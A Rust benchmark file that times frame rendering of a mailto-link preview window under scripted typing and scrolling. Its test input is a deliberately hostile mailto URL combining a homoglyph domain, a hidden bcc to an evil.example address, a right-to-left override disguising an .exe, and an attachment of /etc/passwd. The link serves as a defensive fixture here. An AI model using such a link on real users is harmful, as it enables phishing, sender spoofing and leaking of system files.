//! Frame time of the CPU renderer: the hostile-link window (the one with the most warnings)
//! in a scripted session of typing and scrolling, at scale 1 and 2 and full screen at
//! 2560x1440, without a display. Each frame runs the window's real egui code, tessellates it and
//! draws it with `ui::render::raster` exactly as the window does; what is timed is the drawing (the
//! renderer) and, beside it, the whole frame (egui + tessellation + drawing).
//!
//! Run: `cargo bench --bench frame` (`-- N` sets the frames per session, default 300). Prints
//! the median and the worst frame of each session and the share of the window drawn again.

use std::time::{Duration, Instant};

use egui::{Event, Key, Modifiers, MouseWheelUnit, RawInput, Rect, pos2, vec2};
use mailto_preview::render::raster::{Raster, Scene};
use mailto_preview::ui::{AppOptions, PreviewApp};

const HOSTILE: &str = "mailto:%22support@bank.example%22%20%3Csupport@%D0%B0pple.com%3E?bcc=spy@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&body=Please%20pay.&attach=/etc/passwd&from=ceo@bank.example&X-Mozilla-Draft-Info=1";

struct Session {
    name: &'static str,
    /// Window size in physical pixels.
    pixels: [u32; 2],
    scale: f32,
}

fn main() {
    let frames: usize = std::env::args()
        .skip(1)
        .find_map(|a| a.parse().ok())
        .unwrap_or(300);
    // No config and no store: the window shows its first-run panel, as for a new user.
    let dir = std::env::temp_dir().join(format!("mp-frame-bench-{}", std::process::id()));
    let options = AppOptions {
        config_path: Some(dir.join("config.toml")),
        store: None,
        ..Default::default()
    };
    println!("frames per session: {frames}; times in ms (median / worst)");
    for s in [
        Session {
            name: "720x640 points, scale 1",
            pixels: [720, 640],
            scale: 1.0,
        },
        Session {
            name: "720x640 points, scale 2",
            pixels: [1440, 1280],
            scale: 2.0,
        },
        Session {
            name: "full screen 2560x1440, scale 1",
            pixels: [2560, 1440],
            scale: 1.0,
        },
        Session {
            name: "full screen 2560x1440, scale 2",
            pixels: [2560, 1440],
            scale: 2.0,
        },
    ] {
        run(&s, frames, &options);
    }
    let _ = std::fs::remove_dir_all(&dir);
}

fn run(s: &Session, frames: usize, options: &AppOptions) {
    let ctx = egui::Context::default();
    let mut app = PreviewApp::new(HOSTILE.as_bytes(), options.clone());
    let mut raster = Raster::new();
    let points = vec2(s.pixels[0] as f32, s.pixels[1] as f32) / s.scale;
    let mut raster_times = Vec::new();
    let mut frame_times = Vec::new();
    let mut first = Duration::ZERO;
    let mut drawn = 0usize;
    let start = Instant::now();
    for i in 0..frames + 2 {
        let mut input = RawInput {
            screen_rect: Some(Rect::from_min_size(pos2(0.0, 0.0), points)),
            time: Some(start.elapsed().as_secs_f64() + i as f64 / 60.0),
            focused: true,
            ..Default::default()
        };
        input
            .viewports
            .entry(egui::ViewportId::ROOT)
            .or_default()
            .native_pixels_per_point = Some(s.scale);
        input.events = script(i, points);
        let t0 = Instant::now();
        let out = ctx.run_ui(input, |ui| app.show(ui));
        let primitives = ctx.tessellate(out.shapes, out.pixels_per_point);
        let t1 = Instant::now();
        let damage = raster.paint(
            Scene {
                size: [s.pixels[0] as usize, s.pixels[1] as usize],
                pixels_per_point: out.pixels_per_point,
                background: ctx.global_style().visuals.panel_fill,
                primitives: &primitives,
            },
            out.textures_delta,
        );
        let t2 = Instant::now();
        if i == 0 {
            first = t2 - t1;
        } else if i >= 2 {
            raster_times.push(t2 - t1);
            frame_times.push(t2 - t0);
            drawn += damage.iter().map(|d| d.area()).sum::<usize>();
        }
    }
    let typed = app.session().draft().map_or(0, |d| d.body.len());
    eprintln!("body now {typed} bytes");
    let share = drawn as f64 / (frames as f64 * f64::from(s.pixels[0] * s.pixels[1]));
    println!(
        "{:32} raster {} | whole frame {} | first frame raster {:.2} | {:.0}% of the pixels drawn per frame on average",
        s.name,
        stats(&mut raster_times),
        stats(&mut frame_times),
        ms(first),
        share * 100.0
    );
}

/// The input of frame `i`: Tab into the body, type a sentence, then scroll down and up, over
/// and over: the caret moves, text and the line count change, the view scrolls.
fn script(i: usize, points: egui::Vec2) -> Vec<Event> {
    let key = |key| Event::Key {
        key,
        physical_key: None,
        pressed: true,
        repeat: false,
        modifiers: Modifiers::NONE,
    };
    const TEXT: &str = "Thanks, I will look at the invoice tomorrow.\n";
    let mid = pos2(points.x / 2.0, points.y * 0.6);
    match i % 120 {
        0 if i == 0 => vec![],
        // To, Cc, Bcc, Subject, Body.
        1..=4 if i < 120 => vec![key(Key::Tab)],
        n @ 5..=80 => {
            let c = TEXT.chars().nth((n - 5) % TEXT.len()).unwrap_or(' ');
            if c == '\n' {
                vec![key(Key::Enter)]
            } else {
                vec![Event::Text(c.to_string())]
            }
        }
        n @ 81..=119 => vec![
            Event::PointerMoved(mid),
            Event::MouseWheel {
                unit: MouseWheelUnit::Point,
                delta: vec2(0.0, if n < 100 { -40.0 } else { 40.0 }),
                phase: egui::TouchPhase::Move,
                source: egui::MouseWheelSource::Wheel,
                modifiers: Modifiers::NONE,
            },
        ],
        _ => vec![],
    }
}

fn ms(d: Duration) -> f64 {
    d.as_secs_f64() * 1000.0
}

fn stats(v: &mut [Duration]) -> String {
    v.sort_unstable();
    let median = v.get(v.len() / 2).copied().unwrap_or_default();
    let worst = v.last().copied().unwrap_or_default();
    format!("{:6.2} / {:6.2}", ms(median), ms(worst))
}
